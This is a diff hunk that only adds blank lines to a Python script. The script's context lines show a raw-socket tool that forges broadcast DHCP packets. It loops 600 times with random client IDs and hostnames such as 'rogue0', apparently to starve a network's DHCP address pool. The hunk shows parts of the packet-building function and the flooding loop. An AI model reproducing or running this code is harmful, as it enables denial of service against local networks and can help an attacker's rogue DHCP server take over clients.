@@ -14,9 +14,11 @@ link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
 link.bind(("eth0", 0))
 own = link.getsockname()[4]
 
+
 def checksum(data):
     total = sum(struct.unpack(f"!{len(data) // 2}H", data))
     return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
+
 
 def ask(hardware, kind, client, name, *more, at=bytes(4)):
     options = [(53, bytes([kind])), (61, client), (12, name), *more]
@@ -26,6 +28,7 @@ def ask(hardware, kind, client, name, *more, at=bytes(4)):
     ip = struct.pack("!BBHHHBBH4s4s", 69, 0, 20 + len(udp), 0, 0, 64, 17, 0, bytes(4), b"\xff" * 4)
     ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
     link.send(b"\xff" * 6 + own + b"\x08\x00" + ip + udp)
+
 
 for number in range(600):
     client, name = os.urandom(8), f"rogue{number}".encode()
